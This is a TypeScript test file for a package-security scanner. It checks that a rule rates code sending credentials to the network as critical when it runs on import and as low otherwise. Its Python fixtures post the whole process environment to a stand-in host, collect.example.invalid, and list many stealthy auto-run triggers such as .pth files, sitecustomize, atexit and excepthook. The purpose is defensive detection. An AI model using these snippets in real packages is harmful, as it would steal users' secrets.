import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parsePackageName } from '../../src/core/name.js';
import { loadPythonParser } from '../../src/python/parser.js';
import * as rules from '../../src/rules/registry.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
const HELPER = 'import os\nimport requests\n\n\ndef report():\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
// Enough modules for a package that is not tiny.
const OTHERS = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`plot/part${index}.py`, `VALUE = ${index}\n`]));

/** The severities of what is found in a package of these files, by rule. */
async function found(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'depsec-called-'));
  try {
    for (const [path, text] of Object.entries({ ...OTHERS, ...files })) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const { findings } = await analyseArchive(folder, { rules, loadParser: () => parser }, { name: parsePackageName('plot'), version: '1.0' });
    return findings.filter(({ rule }) => rule === 'credentials-to-network').map(({ severity }) => severity);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test.each([
  ['at the left edge', 'from ._watch import report\n\nreport()\n'],
  ['as an attribute of the module', 'from . import _watch\n\n_watch.report()\n'],
  ['under another name', 'from ._watch import report as begin\n\nbegin()\n'],
  ['under a condition', 'import os\nfrom ._watch import report\n\nif os.name == "posix":\n    report()\n'],
  ['in a thread', 'import threading\nfrom ._watch import report\n\nthreading.Thread(target=report, daemon=True).start()\n'],
  ['when Python ends', 'import atexit\nfrom ._watch import report\n\natexit.register(report)\n'],
  ['after a while', 'import threading\nfrom . import _watch\n\nthreading.Timer(30, _watch.report).start()\n'],
  ['for each of a list', 'from ._watch import report\n\nDONE = [*map(report, ())]\n'],
  ['instead of what shows errors', 'import sys\nfrom ._watch import report\n\nsys.excepthook = report\n'],
  ['in the body of a class', 'from ._watch import report\n\n\nclass Bed:\n    def water(self):\n        pass\n\n    seen = report()\n'],
  ['as a decorator', 'from ._watch import report\n\n\n@report\ndef bloom():\n    pass\n'],
  ['in a try', 'from plot._watch import report\n\ntry:\n    report()\nexcept Exception:\n    pass\n'],
])('a function that another module calls when it is imported runs on import: %s', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toContain('critical');
});

test.each([
  ['nobody calls', 'from ._watch import report\n'],
  ['a module calls by a name that stands for another one', 'from ._watch import report as other, VALUE as report\n\nVALUE()\n'],
  ['a method calls, in a class of narrow lines', 'from ._watch import report\n\n\nclass Bed:\n  def water(self):\n    report()\n'],
  ['a register of the package is given', 'from ._watch import report\nfrom .part1 import JOBS\n\nJOBS.register(report)\n'],
  ['another function calls', 'from ._watch import report\n\n\ndef later():\n    report()\n'],
  ['only a docstring calls', '"""Usage:\n\nreport()\n"""\nfrom ._watch import report\n'],
  ['only the block of a script calls', 'from ._watch import report\n\nif __name__ == "__main__":\n    report()\n'],
  ['a module calls that means another one', 'from elsewhere import report\n\nreport()\n'],
])('a function that %s waits for a call', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toEqual(['low']);
});

const METHOD = 'import os\nimport requests\n\n\nclass Watch:\n    def __init__(self, host):\n        self.host = host\n\n    def report(self):\n        requests.post(self.host, json=dict(os.environ))\n\n\nclass Kind:\n    def __init_subclass__(cls):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';

test.each([
  ['at once', 'from ._watch import Watch\n\nWatch("https://collect.example.invalid").report()\n'],
  ['by a variable', 'from ._watch import Watch\n\nwatch = Watch("https://collect.example.invalid")\nwatch.report()\n'],
  ['by inheriting', 'from ._watch import Kind\n\n\nclass Bed(Kind):\n    pass\n'],
])('a method that another module calls when it is imported runs on import: %s', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': METHOD })).toContain('critical');
});

const BY_SIGNS = 'import os\nimport requests\n\n\nclass Watch:\n    def __or__(self, other):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __set_name__(self, owner, name):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __class_getitem__(cls, item):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n\nclass Bed:\n    def __attrs_post_init__(self):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';

test.each([
  ['an operator', 'from ._watch import Watch\n\nBOTH = Watch() | Watch()\n'],
  ['the making of a class', 'from ._watch import Watch\n\n\nclass Bed:\n    seen = Watch()\n'],
  ['the end of its making', 'from ._watch import Bed\n\nBED = Bed()\n'],
  ['brackets', 'from ._watch import Watch\n\nRow = Watch["row"]\n'],
])('a method that Python calls by %s in another module runs on import', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': BY_SIGNS })).toContain('critical');
});

test.each([
  ['sitecustomize', 'sitecustomize.py', 'from plot import _watch\n\n_watch.report()\n'],
  ['a path file', 'plot.pth', 'import plot._watch; plot._watch.report()\n'],
])('a function that %s calls runs whenever Python starts', async (_, path, text) => {
  expect(await found({ 'plot/__init__.py': '', [path]: text, 'plot/_watch.py': HELPER })).toContain('critical');
});

const BASE = 'import os\nimport requests\n\n\nclass Watch:\n    def __init__(self):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
const HEIR = 'from ._watch import Watch\n\n\nclass Bed(Watch):\n    pass\n';

test('a class runs on import when one that inherits from it is made there, and not when one is only defined', async () => {
  const files = { 'plot/__init__.py': 'from .bed import Bed\n', 'plot/bed.py': HEIR, 'plot/_watch.py': BASE };
  expect(await found(files)).toEqual(['low']);
  expect(await found({ ...files, 'plot/bed.py': `${HEIR}\n\nbed = Bed()\n` })).toContain('critical');
  expect(await found({ ...files, 'plot/__init__.py': 'from .bed import Bed\n\nbed = Bed()\n' })).toContain('critical');
});

test.each([
  ['examples', { 'plot/__init__.py': '', 'plot/examples/show.py': 'from plot._watch import report\n\nreport()\n' }],
  ['a module that no __init__ imports', { 'plot/__init__.py': '', 'plot/server.py': 'from ._watch import report\n\nreport()\n' }],
])('what is called by %s waits for a call', async (_, files) => {
  expect(await found({ ...files, 'plot/_watch.py': HELPER })).toEqual(['low']);
});

const SCRIPT = `${HELPER}\n\nif __name__ == "__main__":\n    report()\n`;

test.each([
  ['by its path', 'import os\nimport subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "_watch.py")])\n'],
  ['as a module', 'import subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, "-m", "plot._watch"])\n'],
])('a module for which a Python of its own is started on import is judged as a script, too: %s', async (_, text) => {
  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': SCRIPT })).toContain('critical');
});

test('a script that a function starts waits for a call', async () => {
  expect(await found({ 'plot/__init__.py': 'import subprocess\nimport sys\n\n\ndef watch():\n    subprocess.Popen([sys.executable, "-m", "plot._watch"])\n', 'plot/_watch.py': SCRIPT })).toEqual(['low']);
});
